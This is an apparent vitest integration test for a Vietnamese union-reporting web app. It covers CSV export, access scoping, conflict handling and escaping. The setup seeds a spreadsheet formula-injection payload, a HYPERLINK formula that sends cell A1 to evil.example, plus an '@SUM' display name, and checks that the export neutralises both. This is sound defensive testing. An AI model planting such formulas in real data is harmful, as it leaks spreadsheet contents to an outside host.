import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { insertUnitWithClosure } from "~/services/unit-tree.server";
import { insertAccount } from "~/services/users.server";
import { freshDatabase, testDialects, type TestDatabase } from "../support/databases";
import { signIn, startApp, type RunningApp } from "../support/server";

const PASSWORD = "Demo@2022";

describe.each(testDialects())("unit reports over HTTP on %s", (dialect) => {
  let database: TestDatabase;
  let app: RunningApp;
  let manager: string; // huyen.quanly
  let campaignId: number;
  const db = () => database.handle.db;
  const unitId = async (code: string) => (await db().selectFrom("unit").select("id").where("code", "=", code).executeTakeFirstOrThrow()).id;
  const get = (path: string, cookie: string) => fetch(`${app.baseUrl}${path}`, { headers: { Cookie: cookie }, redirect: "manual" });
  const post = (path: string, cookie: string, fields: Record<string, string>) =>
    fetch(`${app.baseUrl}${path}`, { method: "POST", body: new URLSearchParams(fields), headers: { Cookie: cookie, Origin: app.baseUrl }, redirect: "manual" });

  beforeAll(async () => {
    database = await freshDatabase(dialect, "reports_http");
    app = await startApp(database.url); // loads the demo into the empty database
    campaignId = (await db().selectFrom("campaign").select("id").orderBy("id").executeTakeFirstOrThrow()).id;
    // A grassroots union whose name, and whose editor's name, a spreadsheet would run as formulas.
    const grassroots = (await db().selectFrom("unit_kind").select("id").where("code", "=", "grassroots").executeTakeFirstOrThrow()).id;
    const trap = await insertUnitWithClosure(db(), {
      parent_id: await unitId("LC-TD"),
      code: "LC-TD-099",
      name: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
      short_name: null,
      kind_id: grassroots,
      members: 10,
      opened_on: "2020-01-01",
      closed_on: null,
      created_at: new Date(),
    });
    await insertAccount(db(), { login: "bay.bientap", password: "mat-khau-dai-2022", displayName: "@SUM(1+1)", role: "editor", unitId: trap });
    await insertAccount(db(), { login: "phongtho.quanly", password: "mat-khau-dai-2022", displayName: "Quản lý Phong Thổ", role: "manager", unitId: await unitId("LC-PT") });
    manager = await signIn(app, "huyen.quanly", PASSWORD);
  });
  afterAll(async () => {
    await app?.stop();
    await database?.dispose();
  });

  it("exports the reminder list as UTF-8 CSV with a BOM, in the manager's scope, formulas neutralised", async () => {
    const response = await get(`/reports/reminders.csv?campaign=${campaignId}`, manager);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="nhac-bao-cao-\d+-\d{8}\.csv"$/);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
    const rows = parse(text, { bom: true }) as string[][];
    expect(rows[0]).toEqual(["STT", "Mã đơn vị", "Đơn vị", "Đơn vị cấp trên", "Hạn báo cáo", "Tình trạng", "Số ngày quá hạn", "Người phụ trách"]);
    const cells = rows.flat();
    expect(cells).toContain("Công đoàn Trường THCS Bình Lư");
    expect(cells).toContain("Chưa lập");
    expect(cells).toContain("Bị trả lại"); // LC-TD-005's returned report
    expect(text).not.toContain("Chè Tam Đường"); // accepted
    expect(text).not.toContain("Phong Thổ");
    expect(text).not.toContain("Sìn Hồ");
    // Neither the unit's name nor its editor's name can start a formula.
    expect(cells.some((c) => c.includes(`'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`))).toBe(true);
    expect(cells.some((c) => c.includes("'@SUM(1+1)"))).toBe(true);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("gives the sibling district only its own units, and refuses editors and unknown campaigns", async () => {
    const sibling = await signIn(app, "phongtho.quanly", "mat-khau-dai-2022");
    const theirs = await (await get(`/reports/reminders.csv?campaign=${campaignId}`, sibling)).text();
    expect(theirs).toContain("Phong Thổ");
    expect(theirs).not.toContain("Bình Lư");
    expect(theirs).not.toContain("HYPERLINK");

    const editor = await signIn(app, "huyen.bientap", PASSWORD);
    expect((await get(`/reports/reminders.csv?campaign=${campaignId}`, editor)).status).toBe(403);
    expect((await get(`/reports/reminders?campaign=${campaignId}`, editor)).status).toBe(403);
    expect((await get("/reports/reminders.csv?campaign=999999", manager)).status).toBe(404);
    const anonymous = await fetch(`${app.baseUrl}/reports/reminders.csv?campaign=${campaignId}`, { redirect: "manual" });
    expect(anonymous.status).toBe(302);
    expect(anonymous.headers.get("location")).toMatch(/^\/login\?next=/);
  });

  it("answers 404 for a report outside the subtree and 403 to the unit's own people reviewing it, writing nothing", async () => {
    const outside = await unitId("LC-PT-001");
    expect((await get(`/reports/${campaignId}/${outside}`, manager)).status).toBe(404);
    expect((await post(`/reports/${campaignId}/${outside}`, manager, { intent: "accept", version: "0" })).status).toBe(404);
    expect((await get(`/reports/${campaignId}/abc`, manager)).status).toBe(404);

    // LC-TD-001 has a submitted report (version 1): its own people cannot accept it.
    const submitted = await unitId("LC-TD-001");
    const before = await db().selectFrom("unit_report").selectAll().where("unit_id", "=", submitted).executeTakeFirstOrThrow();
    const ownEditor = await signIn(app, "huyen.bientap", PASSWORD);
    expect((await post(`/reports/${campaignId}/${submitted}`, ownEditor, { intent: "accept", version: "1" })).status).toBe(403);
    const viewer = await signIn(app, "xem", PASSWORD);
    expect((await get(`/reports/${campaignId}/${submitted}`, viewer)).status).toBe(200);
    expect((await post(`/reports/${campaignId}/${submitted}`, viewer, { intent: "accept", version: "1" })).status).toBe(403);
    // A stale version is a conflict (409), and the page keeps what was typed.
    const stale = await post(`/reports/${campaignId}/${submitted}`, manager, { intent: "return", version: "0", comment: "Bổ sung ảnh minh chứng <b>gấp</b>." });
    expect(stale.status).toBe(409);
    const html = await stale.text();
    expect(html).toContain("vừa được người khác thay đổi");
    expect(html).toContain("Bổ sung ảnh minh chứng &lt;b&gt;gấp&lt;/b&gt;.");
    expect(await db().selectFrom("unit_report").selectAll().where("unit_id", "=", submitted).executeTakeFirstOrThrow()).toEqual(before);

    expect((await get("/audit", ownEditor)).status).toBe(403);
    const audit = await get("/audit?entity=report&from=31/02/2022", manager);
    expect(audit.status).toBe(200);
    expect(await audit.text()).toContain("Ngày không hợp lệ");
  });
});
